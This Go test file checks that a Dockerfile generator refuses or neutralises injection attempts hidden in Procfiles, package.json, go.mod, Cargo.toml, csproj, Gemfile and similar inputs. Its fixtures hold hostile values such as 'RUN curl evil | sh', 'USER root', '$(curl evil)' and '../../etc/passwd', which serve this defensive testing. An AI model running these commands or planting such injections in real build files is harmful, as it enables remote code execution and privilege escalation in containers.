package detect

import (
	"encoding/json"
	"strings"
	"testing"
	"testing/fstest"
)

// TestHostileInputs feeds values that try to add Dockerfile instructions or
// break out of the exec-form JSON, and checks that each one is refused (an
// error) or neutralised (a default, with a reason), never written.
func TestHostileInputs(t *testing.T) {
	goMain := &fstest.MapFile{Data: []byte("package main\n\nfunc main() {}\n")}
	for _, tc := range []struct {
		name    string
		fs      fstest.MapFS
		opts    Options
		wantErr string   // the tree is refused with this error
		start   []string // else the start command is exactly this
		reason  string   // and some reason contains this
	}{
		{
			name: "Procfile web process followed by an instruction line",
			fs: fstest.MapFS{
				"go.mod":   {Data: []byte("module example.com/x\n\ngo 1.22\n")},
				"main.go":  goMain,
				"Procfile": {Data: []byte("web: bin/x\nRUN curl evil | sh\nUSER root\n")},
			},
			start: []string{"bin/x"},
		},
		{
			name: "Procfile command closing the JSON array",
			fs: fstest.MapFS{
				"index.php": {Data: []byte("<?php\n")},
				"Procfile":  {Data: []byte(`web: php -S 0.0.0.0:8080"] RUN ["curl", "evil"` + "\n")},
			},
			start: []string{"/bin/sh", "-c", `exec php -S 0.0.0.0:8080"] RUN ["curl", "evil"`},
		},
		{
			name: "Procfile command with backslashes and a trailing continuation",
			fs: fstest.MapFS{
				"requirements.txt": {Data: []byte("flask\n")},
				"Procfile":         {Data: []byte(`web: python app.py \` + "\n" + "RUN curl evil\n")},
			},
			start: []string{"/bin/sh", "-c", `exec python app.py \`},
		},
		{
			name: "Procfile command with a carriage return inside",
			fs: fstest.MapFS{
				"requirements.txt": {Data: []byte("flask\n")},
				"Procfile":         {Data: []byte("web: python app.py\rRUN curl evil\n")},
			},
			wantErr: "procfile line 1: web process: command contains a line break",
		},
		{
			name: "Procfile command with a NUL",
			fs: fstest.MapFS{
				"requirements.txt": {Data: []byte("flask\n")},
				"Procfile":         {Data: []byte("web: python app.py\x00RUN curl evil\n")},
			},
			wantErr: "command contains a NUL byte",
		},
		{
			name: "Procfile command with a Unicode line separator",
			fs: fstest.MapFS{
				"requirements.txt": {Data: []byte("flask\n")},
				"Procfile":         {Data: []byte("web: python app.py\u2028RUN curl evil\n")},
			},
			wantErr: "control character U+2028",
		},
		{
			name: "package.json start script with a newline",
			fs: fstest.MapFS{
				"package.json": {Data: []byte(`{"scripts":{"start":"node x.js\nRUN curl evil | sh"}}`)},
			},
			wantErr: "package.json scripts.start: command contains a line break",
		},
		{
			name: "package.json start script escaping the JSON",
			fs: fstest.MapFS{
				"package.json": {Data: []byte(`{"scripts":{"start":"node x.js\"]\\\\"}}`)},
			},
			start: []string{"/bin/sh", "-c", `exec node x.js"]\\`},
		},
		{
			name: "a hostile start script is ignored when a Procfile replaces it",
			fs: fstest.MapFS{
				"package.json": {Data: []byte(`{"scripts":{"start":"node x.js\nRUN curl evil"}}`)},
				"Procfile":     {Data: []byte("web: node server.js\n")},
			},
			start:  []string{"node", "server.js"},
			reason: "ignoring package.json scripts.start: command contains a line break",
		},
		{
			name: "engines.node with an instruction",
			fs: fstest.MapFS{
				"package.json": {Data: []byte(`{"engines":{"node":"20\nRUN curl evil"},"scripts":{"start":"node a.js"}}`)},
			},
			start:  []string{"node", "a.js"},
			reason: "using Node.js 22",
		},
		{
			name: "packageManager with a shell command",
			fs: fstest.MapFS{
				"package.json":   {Data: []byte(`{"packageManager":"pnpm@9; curl evil | sh","scripts":{"start":"node a.js"}}`)},
				"pnpm-lock.yaml": {Data: []byte("lockfileVersion: '9.0'\n")},
			},
			start:  []string{"node", "a.js"},
			reason: "ignoring package.json packageManager",
		},
		{
			name: "package.json main outside the tree",
			fs: fstest.MapFS{
				"package.json": {Data: []byte(`{"main":"../../etc/passwd"}`)},
				"index.js":     {Data: []byte("x")},
			},
			start: []string{"node", "index.js"},
		},
		{
			name: "vite outDir outside the tree",
			fs: fstest.MapFS{
				"package.json":   {Data: []byte(`{"scripts":{"build":"vite build"},"devDependencies":{"vite":"^5"}}`)},
				"vite.config.js": {Data: []byte(`export default { build: { outDir: "../../../etc" } }`)},
			},
			start:  caddyStart,
			reason: "ignoring outDir",
		},
		{
			name: "go directive ending in a backslash",
			fs: fstest.MapFS{
				"go.mod":  {Data: []byte("module example.com/x\n\ngo 1.22\\\nRUN curl evil\n")},
				"main.go": goMain,
			},
			start:  []string{"/app/bin/x"},
			reason: "ignoring the go directive",
		},
		{
			name: "module path that is not a file name",
			fs: fstest.MapFS{
				"go.mod":  {Data: []byte("module \"example.com/x\\\"]\"\n\ngo 1.22\n")},
				"main.go": goMain,
			},
			start:  []string{"/app/bin/app"},
			reason: "is not a usable file name",
		},
		{
			name: "Cargo package name with an escaped newline",
			fs: fstest.MapFS{
				"Cargo.toml":  {Data: []byte("[package]\nname = \"x\\nRUN curl evil\"\n")},
				"src/main.rs": {Data: []byte("fn main() {}\n")},
			},
			wantErr: "is not a usable file name",
		},
		{
			name: "toolchain channel with a shell command",
			fs: fstest.MapFS{
				"Cargo.toml":          {Data: []byte("[package]\nname = \"x\"\n")},
				"src/main.rs":         {Data: []byte("fn main() {}\n")},
				"rust-toolchain.toml": {Data: []byte("[toolchain]\nchannel = \"1.80 && curl evil\"\n")},
			},
			start:  []string{"/app/bin/x"},
			reason: "ignoring the rust-toolchain.toml channel",
		},
		{
			name: "assembly name with an instruction",
			fs: fstest.MapFS{
				"Api.csproj": {Data: []byte(`<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><AssemblyName>Api" ] &amp;&amp; RUN curl evil</AssemblyName></PropertyGroup></Project>`)},
			},
			start:  []string{"/bin/sh", "-c", `export ASPNETCORE_HTTP_PORTS="${PORT:-8080}" && exec dotnet /app/Api.dll`},
			reason: "ignoring the assembly name",
		},
		{
			name: "mix app name that is not an atom",
			fs: fstest.MapFS{
				"mix.exs": {Data: []byte(`app: :"x\nRUN curl evil", deps: []`)},
			},
			wantErr: "no app: :name in mix.exs",
		},
		{
			name: "python version file with an instruction",
			fs: fstest.MapFS{
				"requirements.txt": {Data: []byte("requests\n")},
				"main.py":          {Data: []byte("print(1)\n")},
				".python-version":  {Data: []byte("3.12; RUN curl evil\n")},
			},
			start:  []string{"python", "main.py"},
			reason: "using Python 3.12",
		},
		{
			name: "Flask app variable that is not an identifier",
			fs: fstest.MapFS{
				"requirements.txt": {Data: []byte("flask\ngunicorn\n")},
				"app.py":           {Data: []byte("app$(curl evil) = Flask(__name__)\n")},
			},
			wantErr: "no Flask(...) app",
		},
		{
			name: "Gemfile ruby version with an instruction",
			fs: fstest.MapFS{
				"Gemfile":   {Data: []byte("ruby \"3.3\\nRUN curl evil\"\ngem \"puma\"\n")},
				"config.ru": {Data: []byte("run ->(env) { [200, {}, ['hi']] }\n")},
			},
			start:  []string{"/bin/sh", "-c", `exec bundle exec puma --bind "tcp://0.0.0.0:${PORT:-9292}"`},
			reason: "using Ruby 3.3",
		},
		{
			name: "composer php constraint with an instruction",
			fs: fstest.MapFS{
				"composer.json": {Data: []byte(`{"require":{"php":"^8.2\nRUN curl evil","ext-$(curl evil)":"*"}}`)},
			},
			start:  []string{"apache2-foreground"},
			reason: "using PHP 8.3",
		},
		{
			name: "configured start command with a newline",
			fs:   fstest.MapFS{"index.html": {Data: []byte("hi")}},
			opts: Options{StartCommand: "caddy run\nRUN curl evil"}, wantErr: "start command: command contains a line break",
		},
		{
			name: "configured build command with a newline",
			fs:   fstest.MapFS{"index.html": {Data: []byte("hi")}},
			opts: Options{BuildCommand: "make\nUSER root"}, wantErr: "build command: command contains a line break",
		},
		{
			name:  "configured build command closing the JSON array",
			fs:    fstest.MapFS{"index.html": {Data: []byte("hi")}},
			opts:  Options{BuildCommand: `make"] USER ["root`},
			start: caddyStart,
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			plan, err := Detect(tc.fs, tc.opts)
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("err = %v, want %q", err, tc.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatalf("Detect: %v", err)
			}
			assertNoInjection(t, plan.Dockerfile)
			for _, p := range problems(plan.Dockerfile, plan.Port, tc.start, false) {
				t.Errorf("Dockerfile: %s", p)
			}
			if tc.reason != "" && !strings.Contains(strings.Join(plan.Reasons, "\n"), tc.reason) {
				t.Errorf("no reason contains %q:\n%s", tc.reason, strings.Join(plan.Reasons, "\n"))
			}
			for _, r := range plan.Reasons {
				if strings.ContainsAny(r, "\n\r\x00") {
					t.Errorf("reason carries a control character: %q", r)
				}
			}
		})
	}
}

// assertNoInjection checks that no hostile value became an instruction:
// every instruction is one we write, the only USER is the last, non-root,
// one, and every exec form is a well-formed JSON array.
func assertNoInjection(t *testing.T, dockerfile string) {
	t.Helper()
	users := 0
	for _, in := range parseDockerfile(dockerfile) {
		if in.cmd == "USER" {
			users++
			if in.args == "root" || in.args == "0" {
				t.Errorf("line %d: USER %s", in.line, in.args)
			}
		}
		if strings.HasPrefix(in.args, "[") {
			var argv []string
			if err := json.Unmarshal([]byte(in.args), &argv); err != nil {
				t.Errorf("line %d: %s is not a JSON array: %v", in.line, in.args, err)
			}
		} else if strings.Contains(in.args, "curl evil") {
			t.Errorf("line %d: a hostile value reached a shell-form instruction: %s %s", in.line, in.cmd, in.args)
		}
	}
	if users != 1 {
		t.Errorf("%d USER instructions, want 1:\n%s", users, dockerfile)
	}
	for i, line := range strings.Split(dockerfile, "\n") {
		if strings.Contains(line, "curl evil") && !strings.HasPrefix(line, "CMD [") && !strings.HasPrefix(line, "RUN [") {
			t.Errorf("line %d: hostile text outside an exec form: %s", i+1, line)
		}
	}
}
